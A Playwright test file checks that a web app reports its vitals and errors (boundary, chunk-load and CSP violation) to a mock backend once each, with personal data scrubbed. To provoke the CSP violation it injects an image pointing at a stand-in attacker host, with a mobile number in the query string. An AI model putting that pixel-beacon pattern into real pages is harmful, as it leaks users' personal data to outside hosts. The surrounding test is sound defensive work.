// Field data and error reports of a real visit reach the backend (the mock keeps them per namespace:
// /__mock/vitals, /__mock/errors): the vitals with the route's pattern, each error once, scrubbed,
// its stack mapped back to a source file with the build's source maps.
import type { Page } from '@playwright/test';
import { appReady, BROWSER_LOCALE, expect, LOCALES, localized, test } from './fixtures';

type Vitals = { routes: Record<string, Record<string, { p75: number; count: number }>> };
type StoredError = {
  kind: string;
  message: string;
  stack?: string;
  count: number;
  route: string;
  language: string;
};

const PROPERTIES = { ar: 'العقارات', en: 'Properties' };
const CAREERS = { ar: 'الوظائف', en: 'Careers' };
const SERVER_ERROR = { ar: 'خطأ داخلي في الخادم', en: 'Internal Server Error' };
/** A personal value the failing answer carries into the error's message: it must not arrive. */
const MOBILE = '0551234567';

/**
 * The vitals a visit sends, on each engine: web-vitals reports what the browser measures. Firefox has
 * no layout shifts (no CLS); WebKit's are in tests/engines/webkit-field-reports.ts
 * (docs/browser-engines.md).
 */
const VITALS: Record<string, string[]> = {
  chromium: ['CLS', 'FCP', 'INP', 'LCP', 'TTFB'],
  firefox: ['FCP', 'INP', 'LCP', 'TTFB'],
};

/** What a page sends when it is hidden (web-vitals and the reporter flush on `visibilitychange`). */
async function hide(page: Page) {
  await page.evaluate(() => {
    Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true });
    document.dispatchEvent(new Event('visibilitychange'));
  });
}

const errorsAtMock = async (page: Page) =>
  ((await (await page.request.get('/__mock/errors')).json()) as { errors: StoredError[] }).errors;

for (const locale of LOCALES) {
  test.describe(`field reports (${locale})`, () => {
    test.use({ locale: BROWSER_LOCALE[locale] });
    test(`a visit's vitals and its errors reach the backend once, scrubbed (${locale})`, async ({
      page,
      scenario,
      browser,
      browserName,
      baseURL,
      namespace,
    }) => {
      // Every page load sampled (web-app-config's vitals_sample_rate 1).
      await scenario('field-data');
      await page.goto(localized(locale, '/properties/1036'));
      await appReady(page);
      // An interaction for INP: the page's heading takes the click and nothing moves.
      await page.getByRole('heading', { level: 1 }).click();
      // The browser times an interaction after its next frame, and web-vitals takes it in when the
      // page is next idle (its own idle callback, posted before ours).
      await page.waitForFunction(() => performance.getEntriesByType('first-input').length > 0);
      await page.evaluate(() => new Promise((done) => requestIdleCallback(done)));
      await hide(page);
      await expect
        .poll(async () => {
          const vitals = (await (await page.request.get('/__mock/vitals')).json()) as Vitals;
          return Object.keys(vitals.routes['/properties/:id'] ?? {}).sort();
        })
        .toEqual(VITALS[browserName]);
      const vitals = (await (await page.request.get('/__mock/vitals')).json()) as Vitals;
      expect(Object.keys(vitals.routes), 'only route patterns, never an address').not.toContain(
        '/properties/1036',
      );

      // The errors in a page of their own: the journeys' fixtures fail a page on a CSP violation.
      const context = await browser.newContext({ baseURL, locale: BROWSER_LOCALE[locale] });
      await context.addCookies(
        ['mock_ns', 'mock_scenario'].map((name) => ({
          name,
          value: name === 'mock_ns' ? namespace : 'field-data',
          url: String(baseURL),
        })),
      );
      const errorsPage = await context.newPage();
      // A forced error in the app's own code: the list's answer without its results makes the list
      // throw (a TypeError in the card list), caught by the page's error boundary.
      await errorsPage.goto(localized(locale, '/'));
      await appReady(errorsPage);
      await errorsPage.route('**/api/v1/properties/?*', (route) =>
        route.fulfill({ json: { count: 1, next: null, previous: null, results: null } }),
      );
      await errorsPage
        .getByRole('navigation')
        .getByRole('link', { name: PROPERTIES[locale] })
        .first()
        .click();
      await expect(
        errorsPage.getByRole('heading', { level: 1, name: SERVER_ERROR[locale] }),
      ).toBeVisible();
      // A CSP violation: a picture from an origin the policy does not allow, a mobile in its address.
      await errorsPage.evaluate((mobile) => {
        const picture = new Image();
        picture.src = `https://evil.example/pixel.png?mobile=${mobile}`;
        document.body.append(picture);
      }, MOBILE);
      // A chunk that cannot be loaded: the careers page's code, asked for once scripts fail; the app
      // then loads the page from the server, and what waited is sent as the page goes.
      await errorsPage.route('**/assets/*.js', (route) => route.abort());
      await errorsPage
        .getByRole('contentinfo')
        .getByRole('link', { name: CAREERS[locale] })
        .click();
      await errorsPage.waitForURL(new RegExp(`${localized(locale, '/careers')}$`));
      // The page sent what waited as it went: arrived before its browser closes (Firefox drops a
      // request of a closed context that the routes still hold).
      await expect
        .poll(async () => (await errorsAtMock(page)).map((error) => error.kind).sort())
        .toEqual(expect.arrayContaining(['boundary', 'chunk', 'csp']));
      await context.close();
      const errors = await errorsAtMock(page);
      const boundary = errors.find((error) => error.kind === 'boundary')!;
      expect(boundary.count).toBe(1);
      expect(boundary.route).toBe('/properties');
      expect(boundary.language).toBe(locale);
      expect(boundary.stack, 'mapped back to the sources').toMatch(/src\/[\w/-]+\.tsx?:\d+/);
      for (const kind of ['chunk', 'csp']) {
        expect(errors.filter((error) => error.kind === kind).map((error) => error.count)).toEqual([
          1,
        ]);
      }
      expect(JSON.stringify(errors), 'nothing personal').not.toContain(MOBILE);
    });
  });
}
